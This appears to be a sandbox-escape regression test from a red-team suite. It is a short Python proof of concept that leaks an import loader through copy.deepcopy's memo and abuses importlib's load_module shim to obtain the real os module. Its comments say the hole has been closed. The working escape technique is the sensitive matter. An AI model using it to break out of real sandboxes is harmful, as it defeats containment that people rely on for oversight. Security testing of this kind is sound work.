# Two weaknesses chained. (1) copy.deepcopy hands its memo to every __deepcopy__ it meets, and the
# memo holds every object deep-copied so far in the same call (copies as values, originals in
# memo[id(memo)]): a reducer's arguments reach the job before harden_copy's check ever runs, so
# judging the arguments when the reducer is called cannot cover them. typing's alias __reduce__
# returns (getitem, (typing.globals()[self._name], args)); with _name "__loader__" the first
# argument is typing's SourceFileLoader, and a Literal argument of the job's (deep-copied next)
# reads it from the memo. (2) importlib's load_module shim (_LoaderBasics.load_module, reached by
# the loader's mro()) takes any object as the loader: for a name already in sys.modules it calls
# loader.exec_module(sys.modules[name]) with the REAL module, and returns it too.
# Found by a sixth red-team review (strict policy). Closed twice: typing's alias reduce takes
# only a name typing exports, and load_module() is refused whoever calls it.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "159_deepcopy_memo_loader_shim"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import copy
import typing

got = []


class Peek:
    def __hash__(self):
        return 1

    def __eq__(self, other):
        return self is other

    def __deepcopy__(self, memo):
        got.extend(memo.values())
        raise ValueError("stop")


alias = typing.Literal[Peek()]
alias._name = "__loa" + "der__"
try:
    copy.deepcopy(alias)
except ValueError:
    pass
loader = [g for g in got if type(g).__name__ == "SourceFileLoader"][0]
basics = [c for c in type(loader).mro() if c.__name__ == "_LoaderBasics"][0]
handed = []


class Catch:
    def exec_module(self, module):
        handed.append(module)


real_os = basics.load_module(Catch(), "os")
won("os.getpid()=%s handed_same=%s real_system=%s" % (
    real_os.getpid(), handed[0] is real_os, real_os.system))
